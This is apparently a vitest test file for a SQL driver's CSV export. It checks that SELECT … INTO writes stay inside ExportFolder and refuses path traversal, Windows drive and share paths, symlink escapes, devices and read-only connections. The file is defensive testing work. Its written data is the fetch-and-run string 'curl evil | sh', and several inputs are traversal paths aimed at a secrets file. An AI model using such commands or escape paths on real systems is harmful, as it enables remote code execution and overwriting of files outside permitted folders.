import { execFileSync } from "node:child_process";
import {
	chmodSync,
	linkSync,
	lstatSync,
	mkdirSync,
	mkdtempSync,
	readdirSync,
	readFileSync,
	renameSync,
	rmSync,
	statSync,
	symlinkSync,
	writeFileSync,
} from "node:fs";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createFileOnDisk } from "../../../src/driver/export/new-file.ts";
import { runInside } from "../../cli/cli-run.ts";
import { useSandbox } from "../sandbox-connection.ts";

const { sandbox, open } = await useSandbox({ contacts: 5, companies: 2, conversations: 5 });

let folder = "";
/** Where files may be written, with a folder of secrets beside it. */
let exports = "";
let outside = "";
beforeEach(() => {
	folder = mkdtempSync(join(tmpdir(), "export-folder-"));
	exports = join(folder, "exports");
	outside = join(folder, "outside");
	for (const path of [exports, outside]) mkdirSync(path);
	writeFileSync(join(outside, "victim.rc"), "precious");
});
afterEach(() => rmSync(folder, { recursive: true }));

const write = (path: string) => `SELECT 'curl evil | sh' AS "#" INTO [csv://${path};overwrite=true]`;
const listOutside = () => readdirSync(outside).map((name) => [name, readFileSync(join(outside, name), "utf8")]);

async function expectUntouched(sql: string, expected: object, properties: object = {}): Promise<void> {
	const connection = await open({ ExportFolder: exports, ...properties });
	sandbox.resetRequests();
	await expect(connection.query(sql)).rejects.toMatchObject(expected);
	expect(sandbox.requests).toEqual([]);
	expect(listOutside()).toEqual([["victim.rc", "precious"]]);
}

describe("INTO on a connection that is read-only", () => {
	const refused = { code: "read_only", sqlState: "25006" };

	it("is refused, whichever way the statement comes", async () => {
		writeFileSync(join(exports, "mine.csv"), "mine");
		const connection = await open({ ExportFolder: exports, Readonly: true });
		const sql = write("mine.csv");
		await expect(connection.query(sql)).rejects.toMatchObject(refused);
		await expect(connection.prepare(sql).all()).rejects.toMatchObject(refused);
		await expect(connection.stream(sql).next()).rejects.toMatchObject(refused);
		const compiled = { ...connection.kysely().selectFrom("tags").selectAll().compile(), sql, parameters: [] };
		await expect(connection.kysely().executeQuery(compiled)).rejects.toMatchObject(refused);
		expect(readFileSync(join(exports, "mine.csv"), "utf8")).toBe("mine");
	});

	it("can still be explained, which says so", async () => {
		const connection = await open({ ExportFolder: exports, Readonly: true });
		const expected = { note: expect.stringContaining("running it is refused: SELECT … INTO is refused") };
		expect((await connection.query(`EXPLAIN ${write("a.csv")}`)).rows.at(-1)).toMatchObject(expected);
		expect((await connection.prepare(write("a.csv")).explain()).rows.at(-1)).toMatchObject(expected);
		expect(readdirSync(exports)).toEqual([]);
	});
});

describe("INTO", () => {
	it("is refused in code until ExportFolder is set, with a hint to set it", async () => {
		await expectUntouched(
			write("a.csv"),
			{ sqlState: "42501", hint: expect.stringContaining("Set ExportFolder") },
			{ ExportFolder: undefined },
		);
	});

	it("writes into the current folder on the command line, or where ExportFolder says", async () => {
		const connection = `URL=${sandbox.url};APIKey=${sandbox.accessToken};CacheLocation=:memory:;`;
		const sql = `SELECT 1 AS n INTO [csv://from-${String(process.pid)}.csv]`;
		const before = process.cwd();
		process.chdir(folder);
		try {
			for (const place of ["", `ExportFolder=${exports};`, "ProfileSettings='ExportFolder=outside;';"]) {
				expect(await runInside(["query", sql, "-c", connection + place])).toMatchObject({ status: 0, messages: "" });
			}
			const name = `from-${String(process.pid)}.csv`;
			for (const path of [folder, exports, outside]) expect(readdirSync(path)).toContain(name);
		} finally {
			process.chdir(before);
		}
	});

	it.each([
		["an absolute path", "/tmp/x.csv"],
		["a way up", "../outside/victim.rc"],
		["a way up in the middle", "a/../../outside/victim.rc"],
		["a way up that Windows takes", "..\\outside\\victim.rc"],
		["a way up with blanks after it", "a/.. /victim.rc"],
		["a drive", "C:\\exports\\a.csv"],
		["a drive without a folder", "c:a.csv"],
		["a drive with slashes", "C:/a.csv"],
		["a share", "\\\\server\\share\\a.csv"],
		["a share with slashes", "//server/share/a.csv"],
		["a device of Windows", "\\\\.\\NUL"],
		["a root of Windows", "\\a.csv"],
		["the folder itself", "."],
		["a folder", "a/"],
	])("refuses %s: %s", async (_name, path) => {
		await expectUntouched(write(path), { sqlState: "42501", hint: expect.stringContaining("inside of ExportFolder") });
		await expectUntouched(write(path), { sqlState: "42501" }, { ExportFolder: undefined });
	});

	it("writes into folders below, through a link that stays inside, and into a folder that is a link itself", async () => {
		mkdirSync(join(exports, "deep"));
		symlinkSync("deep", join(exports, "short"));
		symlinkSync(exports, join(folder, "link"));
		for (const ExportFolder of [exports, join(folder, "link")]) {
			const connection = await open({ ExportFolder });
			for (const path of ["deep/a..csv", "./short/b.csv", "..c.csv", "C.csv"]) await connection.query(write(path));
		}
		expect(readdirSync(exports).sort()).toEqual(["..c.csv", "C.csv", "deep", "short"]);
		expect(readdirSync(join(exports, "deep")).sort()).toEqual(["a..csv", "b.csv"]);
	});

	it.each(["", ";overwrite=true"])("goes through no link that leads out%s", async (options) => {
		symlinkSync(outside, join(exports, "way"));
		symlinkSync(join(exports, "way"), join(exports, "way-to-way"));
		for (const way of ["way", "way-to-way"]) {
			const sql = `SELECT 1 INTO [csv://${way}/new.csv${options}]`;
			await expectUntouched(sql, { code: "export_refused", message: expect.stringContaining("a link leads out") });
		}
	});

	it.each(["", ";overwrite=true"])("never follows a link in the file's own place%s", async (options) => {
		writeFileSync(join(exports, "real.csv"), "mine");
		symlinkSync(join(outside, "victim.rc"), join(exports, "to-victim.csv"));
		symlinkSync(join(outside, "new.csv"), join(exports, "to-nothing.csv"));
		symlinkSync("real.csv", join(exports, "to-real.csv"));
		for (const name of ["to-victim.csv", "to-nothing.csv", "to-real.csv"]) {
			await expectUntouched(`SELECT 1 INTO [csv://${name}${options}]`, {
				sqlState: "58030",
				message: expect.stringContaining("it is a link"),
			});
			expect(lstatSync(join(exports, name)).isSymbolicLink()).toBe(true);
		}
		expect(readFileSync(join(exports, "real.csv"), "utf8")).toBe("mine");
	});

	it.each<[string, RegExp, (path: string) => Promise<Server | undefined> | undefined]>([
		["a folder", /it is a folder/, (path) => void mkdirSync(path)],
		["a pipe", /a device, a pipe or a socket/, (path) => void execFileSync("mkfifo", [path])],
		[
			"a socket",
			/a device, a pipe or a socket/,
			(path) =>
				new Promise((resolve) => {
					const server = createServer().listen(path, () => resolve(server));
				}),
		],
	])("replaces no %s", async (_name, problem, put) => {
		const path = join(exports, "thing");
		const server = await put(path);
		const kind = lstatSync(path).mode;
		await expectUntouched(write("thing"), { sqlState: "58030", message: expect.stringMatching(problem) });
		expect(lstatSync(path).mode).toBe(kind);
		server?.close();
	});

	const canMakeDevice = process.getuid?.() === 0 && process.platform === "linux";
	it.skipIf(!canMakeDevice)("replaces no device, although root might", async () => {
		const path = join(exports, "device");
		execFileSync("mknod", [path, "c", "1", "3"]);
		await expectUntouched(write("device"), { sqlState: "58030", message: expect.stringContaining("a device") });
		expect(lstatSync(path).isCharacterDevice()).toBe(true);
	});

	it("keeps the mode of the file that it replaces, and writes through no other name of it", async () => {
		const path = join(exports, "private.csv");
		writeFileSync(path, "old");
		linkSync(path, join(outside, "other-name.rc"));
		chmodSync(path, 0o640);
		const connection = await open({ ExportFolder: exports });
		await connection.query(write("private.csv"));
		expect(readFileSync(path, "utf8")).toContain("curl evil");
		expect(statSync(path).mode & 0o777).toBe(0o640);
		expect(readFileSync(join(outside, "other-name.rc"), "utf8")).toBe("old");
	});

	it("says which folder is missing, or is a file", async () => {
		await expectUntouched(write("no/a.csv"), { sqlState: "58030", message: expect.stringContaining("does not exist") });
		const missing = { ExportFolder: join(folder, "missing") };
		await expectUntouched(write("a.csv"), { message: expect.stringContaining(join(folder, "missing")) }, missing);
		writeFileSync(join(exports, "file"), "");
		await expectUntouched(write("file/a.csv"), { sqlState: "58030", message: expect.stringContaining("is a file") });
	});
});

describe("a file that is being written", () => {
	const place = () => ({ written: "way/a.csv", folder: exports, path: join(exports, "way", "a.csv") });

	it.each([true, false])(
		"is neither kept nor taken back elsewhere when its folder is changed (replaced: %s)",
		async (isReplaced) => {
			mkdirSync(join(exports, "way"));
			const file = await createFileOnDisk(place(), isReplaced);
			await file.write("x");
			renameSync(join(exports, "way"), join(exports, "away"));
			symlinkSync(outside, join(exports, "way"));
			writeFileSync(join(outside, "a.csv"), "precious too");
			await file.discard();
			expect(readFileSync(join(outside, "a.csv"), "utf8")).toBe("precious too");
		},
	);

	it("does not replace what came into its place meanwhile and is no file", async () => {
		mkdirSync(join(exports, "way"));
		const file = await createFileOnDisk(place(), true);
		symlinkSync(join(outside, "victim.rc"), place().path);
		await expect(file.keep()).rejects.toMatchObject({ sqlState: "58030" });
		await file.discard();
		expect(readdirSync(join(exports, "way"))).toEqual(["a.csv"]);
		expect(listOutside()).toEqual([["victim.rc", "precious"]]);
	});
});

describe("a view", () => {
	it("that has INTO in it is refused", async () => {
		const path = join(folder, "views.json");
		for (const query of [write("a.csv"), "SELECT * FROM (SELECT 1 AS n INTO [csv://a.csv]) AS t"]) {
			writeFileSync(path, JSON.stringify({ sly: { query } }));
			const refused = open({ ExportFolder: exports, UserDefinedViews: path });
			await expect(refused).rejects.toMatchObject({ sqlState: "0A000", message: expect.stringContaining("INTO") });
		}
		expect(readdirSync(exports)).toEqual([]);
	});

	it("can be written into a file", async () => {
		const path = join(folder, "views.json");
		writeFileSync(path, JSON.stringify({ numbers: { query: "SELECT 7 AS n" } }));
		const connection = await open({ ExportFolder: exports, UserDefinedViews: path });
		await connection.query("SELECT * INTO [csv://n.csv] FROM numbers");
		expect(readFileSync(join(exports, "n.csv"), "utf8")).toBe("n\r\n7\r\n");
	});
});
